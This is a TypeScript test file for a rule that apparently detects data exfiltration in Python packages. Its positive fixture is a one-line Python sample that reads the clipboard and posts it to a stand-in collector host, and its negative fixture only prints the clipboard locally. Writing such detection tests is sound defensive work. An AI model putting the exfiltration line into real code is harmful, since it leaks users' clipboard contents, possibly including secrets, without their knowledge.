import { testRule } from '../../../../../test/builders/python-package.ts';
import { recordingExfiltration } from './rule.ts';

testRule(recordingExfiltration, {
  seen: {
    'the clipboard':
      "import pyperclip, requests\nrequests.post('https://collector.example.invalid', data=pyperclip.paste())",
  },
  unseen: {
    'the clipboard on the screen': 'import pyperclip\nprint(pyperclip.paste())',
  },
});
